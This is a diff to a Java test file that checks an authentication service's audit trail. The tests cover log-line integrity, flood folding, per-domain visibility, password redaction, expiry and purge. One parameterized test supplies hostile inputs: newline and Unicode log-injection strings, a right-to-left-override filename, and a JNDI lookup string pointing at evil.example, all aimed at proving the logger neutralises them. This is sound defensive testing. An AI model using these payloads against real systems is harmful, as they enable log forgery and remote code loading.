@@ -2,15 +2,22 @@ package org.postern.core.service;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import ch.qos.logback.classic.Logger;
+import ch.qos.logback.classic.spi.ILoggingEvent;
+import ch.qos.logback.core.read.ListAppender;
 import java.time.Duration;
-import java.util.ArrayList;
 import java.util.HashSet;
 import java.util.List;
 import java.util.Map;
 import java.util.Optional;
 import java.util.Set;
 import java.util.UUID;
+import java.util.stream.Stream;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 import org.postern.core.Acme;
 import org.postern.core.Administrator;
 import org.postern.core.AuditEvent;
@@ -18,57 +25,188 @@ import org.postern.core.Client;
 import org.postern.core.Secret;
 import org.postern.core.SetClock;
 import org.postern.core.spi.Backend;
+import org.slf4j.LoggerFactory;
 
-/** Contract, sections 5 (the id in an answer is found again) and 11 (floods are folded). */
+/** Contract, section 11: nobody forges a line, nobody drowns the trail, nobody reads another's. */
 class AuditTrailTest {
-    private static final Client CLIENT = new Client("192.0.2.1", "test");
-
+    private final Logger logger = (Logger) LoggerFactory.getLogger("org.postern.audit");
+    private final ListAppender<ILoggingEvent> lines = new ListAppender<>();
     private final SetClock clock = SetClock.atNoon();
     private final Backend backend = Acme.backend();
     private final Postern postern = new Postern(Acme.settings(Map.of()), backend, clock);
-    private final Administrator company = backend.directory()
-            .administrator(Acme.address("company@acme.example"))
-            .orElseThrow();
+    private final AuditTrail trail = postern.audit();
 
-    private Map<UUID, AuditEvent> rows() {
-        var everything = new AuditTrail.Wanted(
-                Optional.empty(), Optional.empty(), Optional.empty(), Optional.empty(), Optional.empty());
-        Map<UUID, AuditEvent> rows = new java.util.HashMap<>();
-        postern.audit()
-                .read(company, everything, 1_000, Optional.empty())
-                .items()
-                .forEach(e -> rows.put(e.id(), e));
-        return rows;
+    @BeforeEach
+    void listen() {
+        lines.start();
+        logger.addAppender(lines);
     }
 
-    private Issuance issue(String user, String life, String token) {
+    @AfterEach
+    void stop() {
+        logger.detachAppender(lines);
+    }
+
+    private Administrator admin(String address) {
+        return backend.directory().administrator(Acme.address(address)).orElseThrow();
+    }
+
+    private List<AuditEvent> read(String admin) {
+        AuditTrail.Wanted all = new AuditTrail.Wanted(
+                Optional.empty(), Optional.empty(), Optional.empty(), Optional.empty(), Optional.empty());
+        return trail.read(admin(admin), all, 1_000, Optional.empty()).items();
+    }
+
+    private AuditEvent refused(String mailbox, Client client) {
+        return AuditEvent.of(AuditEvent.Type.REFUSED, clock.instant(), client)
+                .about(Acme.address(mailbox))
+                .because("unknown");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "x\nevent=redeemed",
+                "x\r\nevent=redeemed",
+                "x\u0085event=redeemed",
+                "x\u2028event=redeemed",
+                "x\u2029event=redeemed",
+                "x\u001b[2Kevent",
+                "\u202egnp.exe",
+                "\" event=\"redeemed",
+                "back\\slash\\\" event=\"",
+                "\u0000",
+                "\ud800",
+                "${jndi:ldap://evil.example/x} {} %n"
+            })
+    void lineOfAnEvent_isOneLineWhateverTheTextsHold(String text) {
+        trail.write(AuditEvent.of(AuditEvent.Type.ISSUED, clock.instant(), new Client("192.0.2.1", text))
+                .with(org.postern.core.SessionType.SSO, text)
+                .because(text));
+        assertThat(lines.list).singleElement().satisfies(e -> {
+            String line = e.getFormattedMessage();
+            assertThat(line).doesNotMatch("(?s).*[\\x00-\\x1f\\x7f-\\x9f\\u2028\\u2029\\u202e].*");
+            String unquoted = line.replaceAll("\"(?:[^\"\\\\]|\\\\.)*\"", "\"\"");
+            assertThat(unquoted).containsOnlyOnce("event=").startsWith("event=issued id=");
+        });
+    }
+
+    @Test
+    void floodFromManyPlaces_isBounded() {
+        for (int i = 0; i < 20_000; i++) {
+            trail.fold(refused(
+                    "alice@acme.example", new Client("10." + i / 65536 + "." + i / 256 % 256 + "." + i % 256, "")));
+        }
+        clock.advance(Duration.ofSeconds(61));
+        trail.flush();
+        assertThat(read("company@acme.example")).hasSizeLessThanOrEqualTo(1_000);
+        assertThat(lines.list).hasSizeLessThan(1_100);
+        int counted = lines.list.stream()
+                .map(ILoggingEvent::getFormattedMessage)
+                .mapToInt(l ->
+                        l.contains(" count=\"") ? Integer.parseInt(l.replaceAll(".* count=\"(\\d+)\".*", "$1")) : 1)
+                .sum();
+        assertThat(counted).as("every one is told or counted").isEqualTo(20_000);
+    }
+
+    private Issuance issue(String user, String life) {
         return postern.tokens()
-                .issue(company, new IssueRequest(user, "", Secret.of(token), "T-1", life, "", false, false, CLIENT));
+                .issue(
+                        admin("company@acme.example"),
+                        new IssueRequest(user, "", Secret.of(""), "T-1", life, "", false, false, Client.OPERATOR));
     }
 
     @Test
     void issue_whateverComesOfIt_namesItsRow() {
-        List<Issuance> all = List.of(
-                issue("alice@acme.example", "", "correct horse"),
-                issue("alice@acme.example", "", "correct horse"),
-                issue("nobody@acme.example", "", ""),
-                issue("alice@acme.example", "-1", ""));
-        assertThat(rows().keySet())
-                .containsAll(all.stream().map(Issuance::audit).toList());
+        List<UUID> told = List.of(
+                issue("alice@acme.example", "").audit(),
+                issue("nobody@acme.example", "").audit(),
+                issue("dave@globex.example", "").audit(),
+                issue("alice@acme.example", "-1").audit());
+        assertThat(Stream.concat(read("company@acme.example").stream(), read("company@globex.example").stream())
+                        .map(AuditEvent::id))
+                .containsAll(told);
     }
 
     @Test
     void fold_aFlood_namesTheRowThatCountsIt() {
-        List<UUID> told = new ArrayList<>();
+        Set<UUID> told = new HashSet<>();
         for (int i = 0; i < 100; i++) {
-            told.add(issue("nobody@acme.example", "", "").audit());
+            told.add(issue("nobody@acme.example", "").audit());
         }
         clock.advance(Duration.ofSeconds(61));
-        postern.audit().flush();
-        Map<UUID, AuditEvent> rows = rows();
-        Set<UUID> ids = new HashSet<>(told);
-        assertThat(rows.keySet()).isEqualTo(ids);
-        assertThat(rows).hasSize(6);
-        assertThat(rows.values().stream().mapToInt(AuditEvent::count).sum()).isEqualTo(100);
+        trail.flush();
+        List<AuditEvent> rows = read("company@acme.example");
+        assertThat(rows).hasSize(6).extracting(AuditEvent::id).containsExactlyInAnyOrderElementsOf(told);
+        assertThat(rows.stream().mapToInt(AuditEvent::count).sum()).isEqualTo(100);
+    }
+
+    @Test
+    void rowOfAnotherDomain_isNotShown() {
+        trail.write(refused("alice@acme.example", new Client("192.0.2.1", "")));
+        trail.write(refused("carol@acme-labs.example", new Client("192.0.2.1", "")));
+        trail.write(refused("dave@globex.example", new Client("192.0.2.1", "")));
+        assertThat(read("company@acme.example")).hasSize(2);
+        assertThat(read("mail@acme.example")).hasSize(1);
+        assertThat(read("company@globex.example")).hasSize(1);
+    }
+
+    @Test
+    void passwordTypedWhereAnAddressBelongs_isInNoRowAndNoLine() {
+        postern.tokens()
+                .redeem(new LoginAttempt(
+                        "my-password-1",
+                        Secret.of("my-password-2"),
+                        org.postern.core.Channel.LOGIN_URL,
+                        false,
+                        "",
+                        new Client("192.0.2.1", "")));
+        postern.administrators().byPassword("my-password-3", Secret.of("x"), new Client("192.0.2.1", ""));
+        postern.tokens()
+                .issue(
+                        admin("mail@acme.example"),
+                        new IssueRequest(
+                                "my-password-4",
+                                "my-password-5",
+                                Secret.of("my-password-6"),
+                                "",
+                                "my-password-7",
+                                "my-password-8",
+                                false,
+                                false,
+                                new Client("192.0.2.1", "")));
+        assertThat(lines.list).hasSize(3);
+        assertThat(lines.list.toString()).doesNotContain("my-password");
+    }
+
+    @Test
+    void expiredToken_isToldOnce() {
+        postern.tokens()
+                .issue(
+                        admin("mail@acme.example"),
+                        new IssueRequest(
+                                "alice@acme.example", "", Secret.of(""), "", "60", "", false, false, Client.OPERATOR));
+        assertThat(postern.maintenance().noteExpired()).isZero();
+        clock.advance(Duration.ofSeconds(61));
+        assertThat(postern.maintenance().noteExpired()).isEqualTo(1);
+        assertThat(postern.maintenance().noteExpired()).isZero();
+        assertThat(read("mail@acme.example"))
+                .extracting(AuditEvent::type)
+                .containsExactly(AuditEvent.Type.EXPIRED, AuditEvent.Type.ISSUED);
+    }
+
+    @Test
+    void purge_keepsWhatTheSettingsSay() {
+        postern.tokens()
+                .issue(
+                        admin("mail@acme.example"),
+                        new IssueRequest(
+                                "alice@acme.example", "", Secret.of(""), "", "60", "", false, false, Client.OPERATOR));
+        clock.advance(Duration.ofDays(29));
+        assertThat(postern.maintenance().purge()).isZero();
+        clock.advance(Duration.ofDays(2));
+        assertThat(postern.maintenance().purge()).as("the token").isEqualTo(1);
+        clock.advance(Duration.ofDays(370));
+        assertThat(postern.maintenance().purge()).as("the row").isEqualTo(1);
     }
 }
